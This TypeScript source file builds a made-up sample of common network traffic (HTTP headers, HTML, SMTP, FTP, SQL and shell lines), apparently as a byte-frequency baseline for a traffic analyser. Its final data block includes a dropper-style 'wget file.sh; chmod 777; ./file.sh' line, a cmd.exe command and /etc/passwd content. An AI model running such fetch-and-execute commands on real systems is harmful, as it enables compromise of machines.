// Text as it is common in traffic: what the frequency of bytes is counted from.
// Apart because it is data. Made up for this purpose; only its mix of letters and words matters.

const REQUESTS = `GET / HTTP/1.1\r
Host: www.example.com\r
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r
Accept-Language: en-US,en;q=0.5\r
Accept-Encoding: gzip, deflate, br\r
Connection: keep-alive\r
Upgrade-Insecure-Requests: 1\r
Cache-Control: max-age=0\r
Cookie: session=4f2a9c81d07e; lang=en; _ga=GA1.2.1234567890.1600000000; PHPSESSID=0a1b2c3d4e5f\r
\r
POST /login.php?action=submit&id=1024 HTTP/1.1\r
Host: mail.example.org:8080\r
User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)\r
Referer: http://www.example.com/index.html\r
Content-Type: application/x-www-form-urlencoded\r
Content-Length: 57\r
Pragma: no-cache\r
Connection: close\r
\r
username=admin&password=secret&submit=Login&token=8d9e0f%20
GET /images/logo.png HTTP/1.0\r
GET /cgi-bin/search.cgi?query=test&page=2 HTTP/1.1\r
GET /js/jquery.min.js HTTP/1.1\r
GET /scripts/default.asp HTTP/1.0\r
GET /admin/index.php HTTP/1.1\r
HEAD /favicon.ico HTTP/1.1\r
User-Agent: curl/7.88.1\r
User-Agent: python-requests/2.31.0\r
X-Requested-With: XMLHttpRequest\r
X-Forwarded-For: 192.168.1.10\r
If-Modified-Since: Mon, 01 Jan 2024 00:00:00 GMT\r
If-None-Match: "5e8f1c2a-1a2b"\r
Authorization: Basic dXNlcjpwYXNzd29yZA==\r
Origin: https://www.example.com\r
`;

const RESPONSES = `HTTP/1.1 200 OK\r
Date: Tue, 02 Feb 2024 10:11:12 GMT\r
Server: Apache/2.4.57 (Unix) OpenSSL/1.1.1\r
Last-Modified: Wed, 03 Mar 2023 08:09:10 GMT\r
ETag: "3a7f-5d1e2c3b4a59"\r
Accept-Ranges: bytes\r
Content-Length: 5120\r
Content-Type: text/html; charset=UTF-8\r
Content-Encoding: gzip\r
Transfer-Encoding: chunked\r
Vary: Accept-Encoding\r
Set-Cookie: id=a3fWa; Expires=Thu, 31 Oct 2030 07:28:00 GMT; Path=/; Secure; HttpOnly\r
Cache-Control: public, max-age=3600\r
Keep-Alive: timeout=5, max=100\r
Connection: Keep-Alive\r
X-Powered-By: PHP/8.1.2\r
Access-Control-Allow-Origin: *\r
\r
HTTP/1.1 302 Found\r
Location: http://www.example.com/home/\r
HTTP/1.1 304 Not Modified\r
HTTP/1.1 404 Not Found\r
HTTP/1.0 500 Internal Server Error\r
Server: nginx/1.22.0\r
Server: Microsoft-IIS/10.0\r
`;

const BODIES = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN">
<html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>Welcome to the example page</title>
<link rel="stylesheet" type="text/css" href="/css/style.css" media="screen" />
<script type="text/javascript" src="https://cdn.example.net/lib/main.js"></script>
<script>var x = document.getElementById("content"); function load(data) { if (data.length > 0) { return data[0]; } else { return null; } }
window.onload = function() { for (var i = 0; i < items.length; i++) { x.innerHTML += "<li>" + items[i].name + "</li>"; } };</script></head>
<body><div class="container" id="main"><h1>News of the day</h1><p>This is the text of a page that people read, and there are more
words with the letters in their common order: information, station, other, another, these, where, which, because, between,
development, something, question, address, number, position, version, service, network, system, computer, program, control.</p>
<table border="0" cellpadding="0" cellspacing="0" width="100%"><tr><td align="center">&nbsp;</td><td><a href="http://www.example.com/page.html" target="_blank">more</a></td></tr></table>
<img src="images/spacer.gif" alt="" width="1" height="1"><br><form method="post" action="search.php"><input type="text" name="q" value=""><input type="submit" value="Search"></form>
<span style="font-family: Arial, Helvetica, sans-serif; font-size: 12px; color: #333333; margin: 0px; padding: 0px;">Copyright 2024</span></div></body></html>
{"id":12345,"name":"example","type":"object","status":"ok","items":[{"key":"value","count":10,"enabled":true,"url":"https://api.example.com/v1/users"}],"error":null,"message":"success","timestamp":"2024-01-02T03:04:05Z"}
<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body></soap:Body></soap:Envelope>
`;

const OTHERS = `220 mail.example.com ESMTP ready\r
EHLO client.example.com\r
250-SIZE 10240000\r
MAIL FROM:<user@example.com>\r
RCPT TO:<other@example.org>\r
354 End data with <CR><LF>.<CR><LF>\r
From: "User" <user@example.com>\r
Subject: Re: meeting on Monday\r
MIME-Version: 1.0\r
Content-Transfer-Encoding: base64\r
USER anonymous\r
331 Please specify the password.\r
PASS guest\r
230 Login successful.\r
RETR file.txt\r
226 Transfer complete.\r
SSH-2.0-OpenSSH_9.2p1 Debian\r
INVITE sip:bob@example.com SIP/2.0\r
Via: SIP/2.0/UDP pc33.example.com\r
SELECT name, value FROM users WHERE id = 1 AND status = 'active' ORDER BY name;
INSERT INTO log (time, message) VALUES (1, 'test');
C:\\WINDOWS\\system32\\cmd.exe /c dir
#!/bin/sh
cd /tmp && wget http://example.com/file.sh; chmod 777 file.sh; ./file.sh
/etc/passwd /usr/local/bin /var/log/messages root:x:0:0:root:/root:/bin/bash
`;

export const SAMPLE: Uint8Array = new TextEncoder().encode(REQUESTS + RESPONSES + BODIES + OTHERS);
